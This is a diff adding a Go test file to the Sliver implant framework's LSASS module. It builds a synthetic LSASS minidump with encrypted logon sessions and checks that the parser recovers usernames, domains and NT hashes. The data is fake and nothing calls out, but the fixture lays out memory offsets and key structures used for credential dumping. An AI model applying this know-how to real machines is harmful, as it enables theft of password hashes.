@@ -0,0 +1,282 @@
+package lsass
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/des"
+	"encoding/binary"
+	"testing"
+	"unicode/utf16"
+)
+
+const (
+	testLsasrv = 0x7ff800000000
+	testHeap   = 0x20000000
+)
+
+var (
+	testIV     = []byte("0123456789abcdef")
+	testDESKey = []byte("des-key-des-key-des-key!")
+	testAESKey = []byte("aes-key-aes-key!")
+)
+
+// testSpace - A fake lsass address space of two regions
+type testSpace struct {
+	lsasrv []byte
+	heap   []byte
+}
+
+func (s *testSpace) at(addr uint64) []byte {
+	if testHeap <= addr && addr < testHeap+uint64(len(s.heap)) {
+		return s.heap[addr-testHeap:]
+	}
+	return s.lsasrv[addr-testLsasrv:]
+}
+
+func (s *testSpace) put(addr uint64, data []byte) {
+	copy(s.at(addr), data)
+}
+
+func (s *testSpace) putPtr(addr uint64, value uint64) {
+	binary.LittleEndian.PutUint64(s.at(addr), value)
+}
+
+func (s *testSpace) putUint32(addr uint64, value uint32) {
+	binary.LittleEndian.PutUint32(s.at(addr), value)
+}
+
+func (s *testSpace) putUint16(addr uint64, value uint16) {
+	binary.LittleEndian.PutUint16(s.at(addr), value)
+}
+
+// putRipRelative - Store the displacement at addr that resolves to target
+func (s *testSpace) putRipRelative(addr uint64, target uint64) {
+	s.putUint32(addr, uint32(int32(int64(target)-int64(addr+4))))
+}
+
+func utf16LE(value string) []byte {
+	buf := []byte{}
+	for _, char := range utf16.Encode([]rune(value)) {
+		buf = append(buf, byte(char), byte(char>>8))
+	}
+	return buf
+}
+
+// primaryCredential - A decrypted MSV1_0_PRIMARY_CREDENTIAL_10_1607
+func primaryCredential(domain string, username string, ntHash []byte) []byte {
+	plain := make([]byte, 128)
+	domainData := utf16LE(domain)
+	userData := utf16LE(username)
+	binary.LittleEndian.PutUint16(plain[0:], uint16(len(domainData)))
+	binary.LittleEndian.PutUint16(plain[2:], uint16(len(domainData)))
+	binary.LittleEndian.PutUint64(plain[8:], 128)
+	binary.LittleEndian.PutUint16(plain[16:], uint16(len(userData)))
+	binary.LittleEndian.PutUint16(plain[18:], uint16(len(userData)))
+	binary.LittleEndian.PutUint64(plain[24:], uint64(128+len(domainData)))
+	plain[41] = 1
+	copy(plain[74:], ntHash)
+	plain = append(plain, domainData...)
+	return append(plain, userData...)
+}
+
+func encrypt3DES(t *testing.T, plain []byte) []byte {
+	for len(plain)%des.BlockSize != 0 {
+		plain = append(plain, 0)
+	}
+	block, err := des.NewTripleDESCipher(testDESKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	encrypted := make([]byte, len(plain))
+	cipher.NewCBCEncrypter(block, testIV[:des.BlockSize]).CryptBlocks(encrypted, plain)
+	return encrypted
+}
+
+func encryptAES(t *testing.T, plain []byte) []byte {
+	if len(plain)%des.BlockSize == 0 {
+		plain = append(plain, 0)
+	}
+	block, err := aes.NewCipher(testAESKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	encrypted := make([]byte, len(plain))
+	register := append([]byte{}, testIV...)
+	stream := make([]byte, aes.BlockSize)
+	for index, value := range plain {
+		block.Encrypt(stream, register)
+		encrypted[index] = value ^ stream[0]
+		copy(register, register[1:])
+		register[aes.BlockSize-1] = encrypted[index]
+	}
+	return encrypted
+}
+
+// putBCryptKey - A KIWI_BCRYPT_HANDLE_KEY at handle wrapping a KIWI_BCRYPT_KEY81
+func (s *testSpace) putBCryptKey(handle uint64, key []byte) {
+	s.putUint32(handle+4, bcryptHandleTag)
+	s.putPtr(handle+16, handle+0x40)
+	s.putUint32(handle+0x40+4, bcryptKeyTag)
+	s.putUint32(handle+0x40+56, uint32(len(key)))
+	s.put(handle+0x40+60, key)
+}
+
+// putSession - A logon session entry with a single "Primary" credential
+func (s *testSpace) putSession(entry uint64, next uint64, luid uint64, encrypted []byte) {
+	s.putPtr(entry, next)
+	s.putPtr(entry+0x70, luid)
+	creds := entry + 0x200
+	primary := creds + 0x40
+	s.putPtr(entry+0x108, creds)
+	s.putPtr(creds+16, primary)
+	s.putUint16(primary+8, 7)
+	s.putUint16(primary+10, 8)
+	s.putPtr(primary+16, primary+0x40)
+	s.put(primary+0x40, []byte("Primary"))
+	s.putUint16(primary+24, uint16(len(encrypted)))
+	s.putUint16(primary+26, uint16(len(encrypted)))
+	s.putPtr(primary+32, primary+0x80)
+	s.put(primary+0x80, encrypted)
+}
+
+func testLsassSpace(t *testing.T) *testSpace {
+	space := &testSpace{lsasrv: make([]byte, 0x1000), heap: make([]byte, 0x2000)}
+
+	keys := uint64(testLsasrv + 0x100)
+	space.put(keys, win10KeyPattern)
+	space.putRipRelative(keys+67, testLsasrv+0x800)
+	space.put(testLsasrv+0x800, testIV)
+	space.putRipRelative(keys-89, testLsasrv+0x820)
+	space.putPtr(testLsasrv+0x820, testHeap)
+	space.putBCryptKey(testHeap, testDESKey)
+	space.putRipRelative(keys+16, testLsasrv+0x828)
+	space.putPtr(testLsasrv+0x828, testHeap+0x100)
+	space.putBCryptKey(testHeap+0x100, testAESKey)
+
+	sessions := uint64(testLsasrv + 0x200)
+	head := uint64(testLsasrv + 0x900)
+	space.put(sessions, win6xSessionPattern)
+	space.putRipRelative(sessions+23, head)
+	space.putRipRelative(sessions-4, testLsasrv+0x980)
+	space.putUint32(testLsasrv+0x980, 1)
+	space.putPtr(head, testHeap+0x400)
+
+	nt1 := bytes.Repeat([]byte{0x11}, 16)
+	nt2 := bytes.Repeat([]byte{0x22}, 16)
+	space.putSession(testHeap+0x400, testHeap+0x800, 0x3e7, encrypt3DES(t, primaryCredential("CORP", "alice", nt1)))
+	space.putSession(testHeap+0x800, head, 0x12345, encryptAES(t, primaryCredential("WS01", "bob", nt2)))
+	return space
+}
+
+// testMinidump - Write the space out as a full memory minidump
+func testMinidump(space *testSpace, arch uint16) []byte {
+	name := utf16LE(`C:\Windows\System32\lsasrv.dll`)
+	systemInfo := make([]byte, 56)
+	binary.LittleEndian.PutUint16(systemInfo, arch)
+	binary.LittleEndian.PutUint32(systemInfo[16:], 19041)
+
+	directoryRva := uint32(32)
+	systemInfoRva := directoryRva + 3*12
+	moduleListRva := systemInfoRva + uint32(len(systemInfo))
+	nameRva := moduleListRva + 4 + moduleEntrySize
+	memoryListRva := nameRva + 4 + uint32(len(name))
+	memoryRva := memoryListRva + 16 + 2*16
+
+	buf := make([]byte, memoryRva)
+	binary.LittleEndian.PutUint32(buf, minidumpSignature)
+	binary.LittleEndian.PutUint32(buf[8:], 3)
+	binary.LittleEndian.PutUint32(buf[12:], directoryRva)
+	directory := [][3]uint32{
+		{systemInfoStream, uint32(len(systemInfo)), systemInfoRva},
+		{moduleListStream, 4 + moduleEntrySize, moduleListRva},
+		{memory64ListStream, 16 + 2*16, memoryListRva},
+	}
+	for index, entry := range directory {
+		for field, value := range entry {
+			binary.LittleEndian.PutUint32(buf[int(directoryRva)+index*12+field*4:], value)
+		}
+	}
+	copy(buf[systemInfoRva:], systemInfo)
+
+	binary.LittleEndian.PutUint32(buf[moduleListRva:], 1)
+	binary.LittleEndian.PutUint64(buf[moduleListRva+4:], testLsasrv)
+	binary.LittleEndian.PutUint32(buf[moduleListRva+4+8:], uint32(len(space.lsasrv)))
+	binary.LittleEndian.PutUint32(buf[moduleListRva+4+20:], nameRva)
+	binary.LittleEndian.PutUint32(buf[nameRva:], uint32(len(name)))
+	copy(buf[nameRva+4:], name)
+
+	binary.LittleEndian.PutUint64(buf[memoryListRva:], 2)
+	binary.LittleEndian.PutUint64(buf[memoryListRva+8:], uint64(memoryRva))
+	binary.LittleEndian.PutUint64(buf[memoryListRva+16:], testHeap)
+	binary.LittleEndian.PutUint64(buf[memoryListRva+24:], uint64(len(space.heap)))
+	binary.LittleEndian.PutUint64(buf[memoryListRva+32:], testLsasrv)
+	binary.LittleEndian.PutUint64(buf[memoryListRva+40:], uint64(len(space.lsasrv)))
+	buf = append(buf, space.heap...)
+	return append(buf, space.lsasrv...)
+}
+
+func TestParse(t *testing.T) {
+	creds, err := Parse(testMinidump(testLsassSpace(t), archAMD64))
+	if err != nil {
+		t.Fatal(err)
+	}
+	expected := []Credential{
+		{Username: "alice", Domain: "CORP", NTHash: "11111111111111111111111111111111", LogonID: 0x3e7},
+		{Username: "bob", Domain: "WS01", NTHash: "22222222222222222222222222222222", LogonID: 0x12345},
+	}
+	if len(creds) != len(expected) {
+		t.Fatalf("expected %d credentials, got %d", len(expected), len(creds))
+	}
+	for index, cred := range creds {
+		if *cred != expected[index] {
+			t.Errorf("credential %d: expected %+v, got %+v", index, expected[index], *cred)
+		}
+	}
+}
+
+func TestParseInvalid(t *testing.T) {
+	dump := testMinidump(testLsassSpace(t), archAMD64)
+	if _, err := Parse(dump[:len(dump)-1]); err != ErrInvalidMinidump {
+		t.Errorf("expected ErrInvalidMinidump for a truncated dump, got %v", err)
+	}
+	if _, err := Parse(testMinidump(testLsassSpace(t), 0)); err != ErrUnsupportedDump {
+		t.Errorf("expected ErrUnsupportedDump for an x86 dump, got %v", err)
+	}
+}
+
+func TestMinidumpRead(t *testing.T) {
+	space := testLsassSpace(t)
+	dump, err := openMinidump(testMinidump(space, archAMD64))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if dump.module("LSASRV.DLL") == nil {
+		t.Error("expected to find lsasrv.dll by name")
+	}
+	data, err := dump.read(testHeap+0x10, 16)
+	if err != nil || !bytes.Equal(data, space.heap[0x10:0x20]) {
+		t.Errorf("unexpected read %x (%v)", data, err)
+	}
+	if _, err := dump.read(testHeap+uint64(len(space.heap))-4, 8); err != errUnmapped {
+		t.Errorf("expected a read past the heap to fail, got %v", err)
+	}
+}